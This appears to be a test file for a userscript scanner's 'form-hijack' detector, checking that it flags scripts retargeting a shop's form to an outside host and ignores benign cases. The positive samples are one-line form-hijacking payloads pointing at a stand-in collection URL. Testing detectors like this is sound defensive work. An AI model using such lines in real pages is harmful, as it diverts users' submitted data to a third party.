import { describe, expect, test } from "vitest";
import { findIn, userscript } from "../testing/find-in.ts";
import { formHijack } from "./form-hijack.ts";

describe("form-hijack", () => {
	test.each([
		[
			"a form turned elsewhere",
			["high 5"],
			userscript(
				["match https://shop.example/*"],
				`document.querySelector("form").action="https://c.stranger.test/take"`,
			),
		],
		[
			"by attribute",
			["high 5"],
			userscript(
				["match https://shop.example/*"],
				`document.forms[0].setAttribute("action","https://c.stranger.test/take")`,
			),
		],
	])("finds %s", (_title, expected, code) => {
		expect(findIn(formHijack, code)).toEqual(expected);
	});

	test.each([
		[
			"a form of its own",
			userscript(
				["match https://shop.example/*"],
				`const f=document.createElement("form");f.action="https://search.stranger.test/";document.body.append(f)`,
			),
		],
		[
			"another page of the site",
			userscript(["match https://shop.example/*"], `document.querySelector("form").action="/save-draft"`),
		],
	])("leaves alone %s", (_title, code) => {
		expect(findIn(formHijack, code)).toEqual([]);
	});
});
